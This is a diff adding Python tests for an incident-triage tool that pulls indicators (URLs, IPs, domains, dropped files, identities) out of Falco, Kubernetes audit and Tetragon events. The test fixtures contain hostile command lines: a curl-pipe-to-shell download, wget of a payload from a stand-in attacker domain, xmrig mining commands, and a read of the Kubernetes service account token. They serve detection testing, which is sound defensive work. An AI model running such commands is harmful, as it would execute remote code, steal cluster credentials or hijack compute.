@@ -1,0 +1,101 @@
+"""What a command, an audit record or a runtime alert yields as indicators."""
+
+from __future__ import annotations
+
+import pytest
+
+from ktriage.core import indicators
+from ktriage.core.indicators import DOMAIN, FILE, HASH, IDENTITY, IP, URL, USER_AGENT, extract
+from ktriage.core.model import Event, Severity
+
+
+def _falco(cmdline: str, **fields: object) -> Event:
+    return Event(
+        time=100.0,
+        source="falco",
+        ref="f1",
+        kind="shell",
+        severity=Severity.HIGH,
+        summary="x",
+        signal=True,
+        raw_inline={"output_fields": {"proc.cmdline": cmdline, **fields}},
+    )
+
+
+def _values(events: list[Event]) -> set[tuple[str, str]]:
+    return {(i.kind, i.value) for i in extract(events).items}
+
+
+@pytest.mark.parametrize(
+    ("cmdline", "expected"),
+    [
+        (
+            "sh -c 'curl -fsSL http://203.0.113.7/x.sh | sh'",
+            {(URL, "http://203.0.113.7/x.sh"), (IP, "203.0.113.7")},
+        ),
+        (
+            "wget evil.example.com/payload -O /tmp/p",
+            {(FILE, "/tmp/p"), (DOMAIN, "evil.example.com")},
+        ),
+        ("curl update.evil.example -o /var/tmp/.x", {(DOMAIN, "update.evil.example")}),
+        ("xmrig -o pool.supportxmr.com:3333 -u w", {(DOMAIN, "pool.supportxmr.com")}),
+        ("xmrig -o stratum+tcp://p.example.net:5555", {(DOMAIN, "p.example.net")}),
+        ("sh -c 'echo x >/dev/shm/.k; cat a 2>/dev/null'", {(FILE, "/dev/shm/.k")}),
+        (
+            "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+            {(FILE, "/var/run/secrets/kubernetes.io/serviceaccount/token")},
+        ),
+        ("sha256sum " + "a" * 64, {(HASH, "a" * 64)}),
+    ],
+)
+def test_commands_yield_urls_hosts_and_dropped_files(
+    cmdline: str, expected: set[tuple[str, str]]
+) -> None:
+    assert expected <= _values([_falco(cmdline)])
+
+
+def test_ordinary_programs_files_and_names_are_no_indicators() -> None:
+    found = _values([_falco("python3 app.py --config /etc/app/config.yaml > /dev/null")])
+    assert not any(kind in (FILE, DOMAIN) for kind, _v in found), found
+
+
+def test_audit_records_yield_address_agent_identities_and_the_exec_command() -> None:
+    ev = Event(
+        time=50.0,
+        source="audit",
+        ref="a1",
+        kind="exec",
+        severity=Severity.HIGH,
+        summary="exec",
+        signal=True,
+        raw_inline={
+            "user": {"username": "ci-deploy"},
+            "impersonatedUser": {"username": "system:admin"},
+            "sourceIPs": ["203.0.113.50"],
+            "userAgent": "kubectl/v1.30",
+            "requestURI": "/api/v1/namespaces/shop/pods/web/exec?command=sh&command=-c&command="
+            "curl%20http%3A%2F%2F198.51.100.7%2Fx%20-o%20%2Ftmp%2Fx",
+        },
+    )
+    found = {(i.kind, i.value): i for i in extract([ev]).items}
+    assert (IDENTITY, "system:admin") in found and (IDENTITY, "ci-deploy") in found
+    assert (USER_AGENT, "kubectl/v1.30") in found
+    assert found[(IP, "203.0.113.50")].places[0].field == "sourceIPs"
+    assert (URL, "http://198.51.100.7/x") in found and (FILE, "/tmp/x") in found
+    assert found[(FILE, "/tmp/x")].places[0].field == "requestURI command"
+
+
+def test_hostile_odd_records_add_what_they_can_and_count_the_rest() -> None:
+    odd = Event(
+        time=1.0,
+        source="tetragon",
+        ref="t1",
+        kind="x",
+        severity=Severity.LOW,
+        summary="x",
+        raw_inline={"process_exec": {"process": {"binary": 42, "arguments": ["not", "text"]},
+                                     "args": "nope"}},
+    )  # fmt: skip
+    deep = _falco("curl http://" + "a." * 5000 + "example/x")
+    result = extract([odd, deep])
+    assert all(len(i.value) <= indicators.MAX_VALUE + 1 for i in result.items)
